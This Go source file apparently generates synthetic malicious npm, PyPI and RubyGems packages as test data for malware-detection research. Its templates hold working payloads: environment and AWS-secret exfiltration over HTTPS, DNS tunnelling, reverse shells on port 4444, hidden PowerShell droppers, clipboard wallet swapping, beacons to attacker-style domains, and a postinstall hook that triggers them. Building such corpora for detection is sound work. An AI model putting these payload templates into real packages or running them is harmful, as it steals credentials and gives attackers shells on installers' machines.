// Package codegen synthesises malicious-package source code. It is the
// substitute for the paper's raw malware corpus: every artifact it emits has
// genuine source files (Python/JavaScript/Ruby), a dependency manifest, and a
// payload drawn from behaviour templates modelled on the paper's Table XI
// (exfiltration, C2 beaconing, Discord payload delivery, wallet replacement,
// PowerShell droppers, ...). Campaign simulators reuse one CodeBase across
// many releases, applying the social-engineering mutation operations of §V-B
// (CN/CV/CD/CDep/CC), so the similarity pipeline, the dependency scanner and
// the behaviour rules all operate on authentic-shaped inputs.
package codegen

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// Behavior labels a malicious capability; the vocabulary mirrors Table XI.
type Behavior string

// Behaviour vocabulary (Table XI rows).
const (
	BehaviorSpyware          Behavior = "Spyware"
	BehaviorBackdoor         Behavior = "Backdoor"
	BehaviorDataExfiltration Behavior = "Data Exfiltration"
	BehaviorC2Channel        Behavior = "C2 channel"
	BehaviorCredentialTheft  Behavior = "Credential collecting"
	BehaviorDNSTunneling     Behavior = "DNS tunneling exfiltration"
	BehaviorBeaconing        Behavior = "Beaconing"
	BehaviorFingerprinting   Behavior = "Fingerprinting"
	BehaviorWebhookAbuse     Behavior = "Webhook Abuse"
	BehaviorPIICollecting    Behavior = "PII collecting"
	BehaviorObfuscation      Behavior = "Obfuscation"
	BehaviorWalletReplace    Behavior = "Crypto Wallet Address Replacement"
	BehaviorDiscordDelivery  Behavior = "Discord Payload Delivery"
	BehaviorPowerShell       Behavior = "PowerShell"
	BehaviorDropboxFetch     Behavior = "Dropbox Malware Fetch"
	BehaviorLicenseSpoofing  Behavior = "Legitimate Package Spoofing"
)

// PayloadKind selects a payload template family.
type PayloadKind int

// Payload families. Each maps to a small set of behaviours and a code
// skeleton; families are what make two code bases dissimilar.
const (
	PayloadEnvExfil PayloadKind = iota + 1
	PayloadDiscordDropper
	PayloadDropboxFetch
	PayloadWalletReplace
	PayloadBackdoorShell
	PayloadBeaconC2
	PayloadCredentialTheft
	PayloadWebhookExfil
	PayloadDNSTunnel
	PayloadPowerShellDropper
	// PayloadTrojanLite is a trojanized library: a large benign code mass
	// with a single tracking-pixel beacon. Signature scanners catch it; the
	// generic feature vector barely registers it, so §VI-A models must have
	// seen the family to detect it.
	PayloadTrojanLite
)

// AllPayloads lists every payload family.
func AllPayloads() []PayloadKind {
	return []PayloadKind{
		PayloadEnvExfil, PayloadDiscordDropper, PayloadDropboxFetch,
		PayloadWalletReplace, PayloadBackdoorShell, PayloadBeaconC2,
		PayloadCredentialTheft, PayloadWebhookExfil, PayloadDNSTunnel,
		PayloadPowerShellDropper, PayloadTrojanLite,
	}
}

// Behaviors returns the behaviour labels a payload family exhibits.
func (p PayloadKind) Behaviors() []Behavior {
	switch p {
	case PayloadEnvExfil:
		return []Behavior{BehaviorDataExfiltration, BehaviorSpyware, BehaviorPIICollecting}
	case PayloadDiscordDropper:
		return []Behavior{BehaviorDiscordDelivery, BehaviorPowerShell, BehaviorLicenseSpoofing}
	case PayloadDropboxFetch:
		return []Behavior{BehaviorDropboxFetch, BehaviorPowerShell, BehaviorLicenseSpoofing}
	case PayloadWalletReplace:
		return []Behavior{BehaviorObfuscation, BehaviorWalletReplace}
	case PayloadBackdoorShell:
		return []Behavior{BehaviorBackdoor, BehaviorC2Channel, BehaviorSpyware}
	case PayloadBeaconC2:
		return []Behavior{BehaviorBeaconing, BehaviorFingerprinting, BehaviorC2Channel}
	case PayloadCredentialTheft:
		return []Behavior{BehaviorCredentialTheft, BehaviorC2Channel, BehaviorDNSTunneling}
	case PayloadWebhookExfil:
		return []Behavior{BehaviorWebhookAbuse, BehaviorDataExfiltration, BehaviorFingerprinting}
	case PayloadDNSTunnel:
		return []Behavior{BehaviorDNSTunneling, BehaviorDataExfiltration}
	case PayloadPowerShellDropper:
		return []Behavior{BehaviorPowerShell, BehaviorObfuscation, BehaviorLicenseSpoofing}
	case PayloadTrojanLite:
		return []Behavior{BehaviorBeaconing, BehaviorSpyware, BehaviorLicenseSpoofing}
	default:
		return nil
	}
}

// IoC bundles the network indicators a code base embeds. Changing the IP or
// URL is the classic CC ("changing code") operation: ~0.88 lines per hop.
type IoC struct {
	Domain string
	IP     string
	URL    string
}

// CodeBase is a reusable malware code base: one payload family, one language,
// a fixed identifier vocabulary, and benign filler. Packages instantiated
// from the same CodeBase share ~99% of their tokens, which is what the
// similarity stage must recover (§III-B).
//
// A code base renders its source files once per (IoC, import deps) and
// shares them across every release that uses that pair, so Instantiate is
// safe for concurrent use.
type CodeBase struct {
	ID       string
	Eco      ecosys.Ecosystem
	Payload  PayloadKind
	IoC      IoC
	idents   []string // stable per-code-base identifier vocabulary
	fillers  []string // benign filler functions, stable per code base
	obfChunk string   // stable obfuscation blob
	salt     []string // unique per-code-base tokens woven through every file
	hook     bool     // whether NPM manifests declare a postinstall hook
	docLinks int      // fake documentation URLs copied from benign boilerplate

	mu      sync.Mutex
	sources map[sourceKey]*renderedSources
}

// sourceKey is everything a code base's source files depend on.
type sourceKey struct {
	ext  string
	ioc  IoC
	deps string // import deps, NUL-joined
}

// renderedSources is one rendering of a code base's source files.
type renderedSources struct {
	once  sync.Once
	files []ecosys.File
}

// Options configures a single artifact instantiation.
type Options struct {
	Description  string
	Dependencies []string // manifest-declared dependencies
	ImportDeps   []string // dependencies referenced from source (dependent-hidden channel)
	IoCOverride  *IoC     // CC operation: swap network indicators
}

// NewCodeBase derives a fresh code base for an ecosystem from the stream.
func NewCodeBase(id string, eco ecosys.Ecosystem, payload PayloadKind, rng *xrand.RNG) *CodeBase {
	cb := &CodeBase{ID: id, Eco: eco, Payload: payload}
	cb.IoC = RandomIoC(rng)
	nIdent := 6 + rng.Intn(5)
	cb.idents = make([]string, nIdent)
	for i := range cb.idents {
		cb.idents[i] = randomIdent(rng)
	}
	nFill := 3 + rng.Intn(4)
	if payload == PayloadTrojanLite {
		nFill += 4 // trojanized libraries are mostly legitimate code
	}
	cb.fillers = make([]string, nFill)
	// Salt: distinct identifiers every file of this code base repeats. Real
	// code bases differ in exactly this way — their own helper names and
	// internal vocabulary — and it is what keeps two unrelated campaigns
	// that happen to share a payload *pattern* from embedding identically.
	cb.salt = make([]string, 6)
	for i := range cb.salt {
		cb.salt[i] = randomIdent(rng) + randomIdent(rng)
	}
	for i := range cb.fillers {
		cb.fillers[i] = fillerFunc(eco, rng, cb.salt[i%len(cb.salt)])
	}
	cb.obfChunk = base64ish(rng, 48+rng.Intn(80))
	// Roughly two thirds of campaigns trigger at install time; the rest rely
	// on import-time or runtime execution, so an install hook alone is not a
	// reliable malware tell.
	cb.hook = rng.Bool(0.65)
	// Attackers copy benign boilerplate: many campaigns ship fake
	// documentation links, so URL counts overlap the benign distribution.
	cb.docLinks = rng.Intn(3)
	cb.sources = make(map[sourceKey]*renderedSources)
	return cb
}

// saltHeader renders the code base's vocabulary as an inert banner comment,
// plus the code base's stolen documentation links.
func (cb *CodeBase) saltHeader(ext string) string {
	marker := "#"
	if ext == "js" {
		marker = "//"
	}
	var b strings.Builder
	line := marker + " internal: " + strings.Join(cb.salt, " ") + "\n"
	b.WriteString(line)
	b.WriteString(line)
	for i := 0; i < cb.docLinks; i++ {
		b.WriteString(marker + " docs: https://github.com/org/" + cb.salt[i%len(cb.salt)] + "#readme\n")
	}
	return b.String()
}

// RandomIoC draws a plausible indicator set.
func RandomIoC(rng *xrand.RNG) IoC {
	domains := []string{
		"bananasquad.ru", "kekwltd.ru", "python-release.com", "paste.bingner.com",
		"cdn.discordapp.com", "api.telegram.org", "transfer.sh", "dl.dropbox.com",
		"raw.githubusercontent.com", "discord.com", "grabify.link", "oastify.com",
	}
	ip := fmt.Sprintf("%d.%d.%d.%d", 5+rng.Intn(200), rng.Intn(256), rng.Intn(256), 1+rng.Intn(254))
	domain := xrand.Pick(rng, domains)
	return IoC{
		Domain: domain,
		IP:     ip,
		URL:    fmt.Sprintf("https://%s/%s", domain, randomIdentSeeded(rng)),
	}
}

// Instantiate renders a complete artifact for the given coordinate.
func (cb *CodeBase) Instantiate(coord ecosys.Coord, opts Options) *ecosys.Artifact {
	ioc := cb.IoC
	if opts.IoCOverride != nil {
		ioc = *opts.IoCOverride
	}
	files := []ecosys.File{
		cb.manifest(coord, opts),
		{Path: "README.md", Content: readme(coord, opts.Description)},
	}
	files = append(files, cb.sourceFiles(coord.Ecosystem.SourceExt(), opts.ImportDeps, ioc)...)
	return ecosys.NewArtifact(coord, opts.Description, files)
}

// sourceFiles returns the code base's source files for one (IoC, import
// deps) pair, rendering them on first use.
func (cb *CodeBase) sourceFiles(ext string, importDeps []string, ioc IoC) []ecosys.File {
	key := sourceKey{ext: ext, ioc: ioc, deps: strings.Join(importDeps, "\x00")}
	cb.mu.Lock()
	r, ok := cb.sources[key]
	if !ok {
		r = &renderedSources{}
		cb.sources[key] = r
	}
	cb.mu.Unlock()
	r.once.Do(func() { r.files = cb.renderSources(ext, importDeps, ioc) })
	return r.files
}

func (cb *CodeBase) manifest(coord ecosys.Coord, opts Options) ecosys.File {
	switch coord.Ecosystem {
	case ecosys.PyPI:
		var b strings.Builder
		for _, d := range opts.Dependencies {
			b.WriteString(d)
			b.WriteByte('\n')
		}
		return ecosys.File{Path: "requirements.txt", Content: b.String()}
	case ecosys.RubyGems:
		var b strings.Builder
		fmt.Fprintf(&b, "Gem::Specification.new do |s|\n")
		fmt.Fprintf(&b, "  s.name = %q\n  s.version = %q\n  s.summary = %q\n", coord.Name, coord.Version, opts.Description)
		for _, d := range opts.Dependencies {
			fmt.Fprintf(&b, "  s.add_dependency %q\n", d)
		}
		b.WriteString("end\n")
		return ecosys.File{Path: "package.gemspec", Content: b.String()}
	default:
		var b strings.Builder
		b.WriteString("{\n")
		fmt.Fprintf(&b, "  \"name\": %q,\n  \"version\": %q,\n  \"description\": %q,\n", coord.Name, coord.Version, opts.Description)
		if cb.hook {
			b.WriteString("  \"scripts\": {\"postinstall\": \"node index.js\"},\n")
		}
		b.WriteString("  \"dependencies\": {")
		for i, d := range opts.Dependencies {
			if i > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "%q: \"^1.0.0\"", d)
		}
		b.WriteString("}\n}\n")
		return ecosys.File{Path: "package.json", Content: b.String()}
	}
}

func readme(coord ecosys.Coord, desc string) string {
	return fmt.Sprintf("# %s\n\n%s\n\nInstall from %s.\nMIT License.\n", coord.Name, desc, coord.Ecosystem)
}

func (cb *CodeBase) renderSources(ext string, importDeps []string, ioc IoC) []ecosys.File {
	header := cb.saltHeader(ext)
	// Import section: benign-looking stdlib plus any dependent-hidden libs,
	// then the payload; the fillers alternate between main and helper.
	main := []string{header, importBlock(ext, importDeps), cb.payloadCode(ext, ioc)}
	helper := []string{header}
	for i, f := range cb.fillers {
		if i%2 == 0 {
			main = append(main, f)
		} else {
			helper = append(helper, f)
		}
	}

	mainName := "index." + ext
	if ext == "py" {
		mainName = "setup.py"
	}
	// Single-file vs main+helper layout varies per code base, as it does in
	// the wild; file count is therefore not a class signal.
	if len(cb.fillers) < 4 {
		return []ecosys.File{{Path: mainName, Content: strings.Join(append(main, helper...), "")}}
	}
	return []ecosys.File{
		{Path: mainName, Content: strings.Join(main, "")},
		{Path: "lib/helper." + ext, Content: strings.Join(helper, "")},
	}
}

func importBlock(ext string, deps []string) string {
	var b strings.Builder
	switch ext {
	case "py":
		b.WriteString("import os\nimport sys\nimport base64\nimport socket\n")
		for _, d := range deps {
			b.WriteString("import " + d + "\n")
		}
	case "js":
		b.WriteString("const os = require('os');\nconst https = require('https');\nconst cp = require('child_process');\n")
		for _, d := range deps {
			fmt.Fprintf(&b, "const %s = require('%s');\n", jsVar(d), d)
		}
	case "rb":
		b.WriteString("require 'socket'\nrequire 'base64'\nrequire 'net/http'\n")
		for _, d := range deps {
			fmt.Fprintf(&b, "require '%s'\n", d)
		}
	}
	b.WriteByte('\n')
	return b.String()
}

func jsVar(dep string) string {
	return strings.NewReplacer("-", "_", ".", "_", "/", "_", "@", "").Replace(dep)
}

// dropperURL keeps the delivery service stable per family (Discord and
// Dropbox droppers are defined by their service) while the path still tracks
// the IoC, so the CC operation remains a genuine one-line diff.
func dropperURL(p PayloadKind, ioc IoC) string {
	path := ioc.URL
	if i := strings.Index(path, "//"); i >= 0 {
		if j := strings.IndexByte(path[i+2:], '/'); j >= 0 {
			path = path[i+2+j+1:]
		}
	}
	switch p {
	case PayloadDiscordDropper:
		return "https://cdn.discordapp.com/attachments/" + path
	case PayloadDropboxFetch:
		return "https://dl.dropbox.com/s/" + path
	default:
		return ioc.URL
	}
}

// payloadCode renders the malicious section. Templates keep IoC literals on
// their own line so the CC operation is a genuine ~1-line diff; each family
// embeds only the indicators it actually uses (a beacon has a URL, a reverse
// shell an IP, a DNS tunnel a domain), which keeps feature signatures
// family-specific rather than globally "malware-shaped".
func (cb *CodeBase) payloadCode(ext string, ioc IoC) string {
	id := func(i int) string { return cb.idents[i%len(cb.idents)] }
	var b strings.Builder
	// Build-tag line: anchors even token-poor payloads (the 3-line droppers)
	// to this code base's vocabulary, so same-template campaigns from
	// different actors do not chain-merge in the similarity stage.
	switch ext {
	case "py":
		fmt.Fprintf(&b, "%s_build = \"%s-%s-%s\"\n", cb.salt[0], cb.salt[1], cb.salt[2], cb.salt[3])
	case "js":
		fmt.Fprintf(&b, "const %s_build = \"%s-%s-%s\";\n", cb.salt[0], cb.salt[1], cb.salt[2], cb.salt[3])
	case "rb":
		fmt.Fprintf(&b, "%s_BUILD = \"%s-%s-%s\"\n", strings.ToUpper(cb.salt[0]), cb.salt[1], cb.salt[2], cb.salt[3])
	}
	switch ext {
	case "py":
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil, PayloadBeaconC2:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(0), ioc.URL)
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(1), ioc.IP)
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(0), dropperURL(cb.Payload, ioc))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "%s = \"wss://%s/feed\"\n", id(0), ioc.Domain)
		}
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil:
			fmt.Fprintf(&b, "def %s():\n    data = dict(os.environ)\n    data['aws'] = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    from http.client import HTTPSConnection\n    conn = HTTPSConnection(\"%s\")\n    conn.request('POST', %s, str(data))\n\n%s()\n", id(2), ioc.Domain, id(0), id(2))
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "def %s():\n    payload = base64.b64decode(\"%s\")\n    os.system(\"powershell -WindowStyle Hidden -EncodedCommand \" + payload.decode())\n\n%s()\n", id(2), cb.obfChunk, id(2))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "%s = \"%s\"\ndef %s(clipboard):\n    \"\"\"替换剪贴板中的钱包地址\"\"\"\n    if clipboard.startswith('0x'):\n        return %s\n    return clipboard\n", id(3), walletAddr(cb.obfChunk), id(2), id(3))
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "def %s():\n    s = socket.socket()\n    s.connect((%s, 4444))\n    while True:\n        cmd = s.recv(1024).decode()\n        s.send(os.popen(cmd).read().encode())\n\n%s()\n", id(2), id(1), id(2))
		case PayloadBeaconC2:
			fmt.Fprintf(&b, "def %s():\n    info = {'host': socket.gethostname(), 'user': os.getlogin()}\n    from http.client import HTTPSConnection\n    HTTPSConnection(\"%s\").request('POST', %s + '/beacon', str(info))\n\n%s()\n", id(2), ioc.Domain, id(0), id(2))
		case PayloadDNSTunnel:
			fmt.Fprintf(&b, "def %s(secret):\n    for chunk in [secret[i:i+32] for i in range(0, len(secret), 32)]:\n        socket.gethostbyname(chunk + '.' + \"%s\")\n\n%s(str(dict(os.environ)))\n", id(2), ioc.Domain, id(2))
		case PayloadTrojanLite:
			fmt.Fprintf(&b, "def %s():\n    from http.client import HTTPSConnection\n    HTTPSConnection(\"%s\").request('GET', '/pixel.gif')\n\n%s()\n", id(2), ioc.Domain, id(2))
		default:
			fmt.Fprintf(&b, "def %s():\n    exec(base64.b64decode(\"%s\"))\n\n%s()\n", id(2), cb.obfChunk, id(2))
		}
	case "js":
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil, PayloadBeaconC2:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(0), ioc.URL)
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(1), ioc.IP)
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(0), dropperURL(cb.Payload, ioc))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "const %s = \"wss://%s/feed\";\n", id(0), ioc.Domain)
		}
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil:
			fmt.Fprintf(&b, "function %s() {\n  const data = JSON.stringify(process.env);\n  const req = https.request(%s, {method: 'POST'});\n  req.write(data);\n  req.end();\n}\n%s();\n", id(2), id(0), id(2))
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "function %s() {\n  const payload = Buffer.from(\"%s\", 'base64').toString();\n  cp.exec('powershell -WindowStyle Hidden ' + payload);\n}\n%s();\n", id(2), cb.obfChunk, id(2))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "const %s = \"%s\";\nfunction %s(文本) {\n  // 替换加密钱包地址\n  if (文本.startsWith('0x')) return %s;\n  return 文本;\n}\n", id(3), walletAddr(cb.obfChunk), id(2), id(3))
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "function %s() {\n  const net = require('net');\n  const sock = net.connect(4444, %s);\n  sock.on('data', d => cp.exec(d.toString(), (e, out) => sock.write(out || '')));\n}\n%s();\n", id(2), id(1), id(2))
		case PayloadBeaconC2:
			fmt.Fprintf(&b, "function %s() {\n  const info = {host: os.hostname(), user: os.userInfo().username};\n  https.request(%s + '/beacon', {method: 'POST'}).end(JSON.stringify(info));\n}\n%s();\n", id(2), id(0), id(2))
		case PayloadDNSTunnel:
			fmt.Fprintf(&b, "function %s(secret) {\n  const dns = require('dns');\n  for (let i = 0; i < secret.length; i += 32) {\n    dns.lookup(secret.slice(i, i+32) + '.' + \"%s\", () => {});\n  }\n}\n%s(JSON.stringify(process.env));\n", id(2), ioc.Domain, id(2))
		case PayloadTrojanLite:
			fmt.Fprintf(&b, "https.get('https://' + \"%s\" + '/pixel.gif');\n", ioc.Domain)
		default:
			fmt.Fprintf(&b, "eval(Buffer.from(\"%s\", 'base64').toString());\n", cb.obfChunk)
		}
	case "rb":
		fmt.Fprintf(&b, "%s = \"%s\"\n", strings.ToUpper(id(0)), ioc.URL)
		fmt.Fprintf(&b, "%s = \"%s\"\n", strings.ToUpper(id(1)), ioc.IP)
		switch cb.Payload {
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "def %s\n  s = TCPSocket.new(%s, 4444)\n  loop { s.write(`#{s.gets}`) }\nend\n%s\n", id(2), strings.ToUpper(id(1)), id(2))
		default:
			fmt.Fprintf(&b, "def %s\n  data = ENV.to_h.to_s\n  Net::HTTP.post(URI(%s), data)\nend\n%s\n", id(2), strings.ToUpper(id(0)), id(2))
		}
	}
	b.WriteByte('\n')
	return b.String()
}

func walletAddr(seed string) string {
	if len(seed) < 38 {
		seed = seed + strings.Repeat("a", 38)
	}
	return "0x" + strings.ToLower(seed[:38])
}

var identSyllables = []string{
	"ser", "net", "con", "fig", "pro", "dat", "han", "dle", "req", "res",
	"mod", "pkg", "sys", "log", "tmp", "buf", "ctx", "sec", "tok", "enc",
}

func randomIdent(rng *xrand.RNG) string {
	n := 2 + rng.Intn(2)
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteString(xrand.Pick(rng, identSyllables))
	}
	b.WriteString(strconv.Itoa(rng.Intn(100)))
	return b.String()
}

func randomIdentSeeded(rng *xrand.RNG) string { return randomIdent(rng) }

const base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

func base64ish(rng *xrand.RNG, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base64Alphabet[rng.Intn(len(base64Alphabet))]
	}
	return string(b)
}

// fillerFunc emits one benign helper function, giving packages realistic
// benign-to-malicious code ratios. The salt token anchors the filler to its
// code base's vocabulary.
func fillerFunc(eco ecosys.Ecosystem, rng *xrand.RNG, salt string) string {
	name := randomIdent(rng)
	a, bIdent, c := randomIdent(rng), randomIdent(rng), randomIdent(rng)
	switch eco.SourceExt() {
	case "py":
		return "def " + name + "(" + a + ", " + bIdent + "=None):\n    \"\"\"" + salt + " helper.\"\"\"\n    " +
			bIdent + " = " + bIdent + " or []\n    " + c + " = [x for x in " + a + " if x]\n    return " + c + "\n\n"
	case "rb":
		return "def " + name + "(" + a + ") # " + salt + "\n  " + c + " = " + a + ".reject(&:nil?)\n  " + c + "\nend\n\n"
	default:
		return "function " + name + "(" + a + ", " + bIdent + ") { // " + salt + "\n  const " + c + " = (" + a +
			" || []).filter(Boolean);\n  return " + c + ".concat(" + bIdent + " || []);\n}\n\n"
	}
}
